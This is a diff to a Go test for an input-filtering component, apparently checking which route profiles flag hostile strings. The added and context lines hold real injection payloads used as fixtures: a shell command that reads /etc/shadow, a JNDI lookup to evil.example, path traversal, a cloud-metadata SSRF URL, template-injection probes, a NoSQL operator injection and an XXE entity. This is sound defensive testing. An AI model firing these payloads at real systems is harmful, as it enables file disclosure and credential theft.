@@ -87,6 +87,12 @@ func TestProfilesTolerateWhatTheirRoutesCarry(t *testing.T) {
 		pipe       = `127.0.0.1; cat /etc/shadow`
 		lookup     = `${jndi:ldap://evil.example/a}`
 		steps      = `../../../../etc/passwd`
+		metadata   = `http://169.254.169.254/latest/meta-data/`
+		talkOfURL  = "Never fetch http://169.254.169.254/latest/ for a client."
+		arithmetic = `{{8*8}}`
+		reach      = `{{ ''.__class__.__mro__ }}`
+		operator   = `{"pin":{"$ne":null}}`
+		entity     = `<!DOCTYPE q [<!ENTITY z SYSTEM "file:///etc/hosts">]><q>&z;</q>`
 		tutorial   = "Run `cat /etc/hosts` and `ls -la | sort` to see them."
 	)
 	for _, c := range []struct {
@@ -106,6 +112,12 @@ func TestProfilesTolerateWhatTheirRoutesCarry(t *testing.T) {
 		{pipe, "strict-api html-editor sql-assistant ai-chat tool-output"},
 		{lookup, "strict-api html-editor sql-assistant ai-chat tool-output"},
 		{steps, "strict-api html-editor sql-assistant ai-chat tool-output"},
+		{metadata, "strict-api html-editor sql-assistant ai-chat tool-output"},
+		{talkOfURL, ""},
+		{arithmetic, "strict-api html-editor sql-assistant"},
+		{reach, "strict-api html-editor sql-assistant ai-chat tool-output"},
+		{operator, "strict-api"},
+		{entity, "strict-api html-editor sql-assistant ai-chat tool-output"},
 		{tutorial, ""},
 	} {
 		var found []string
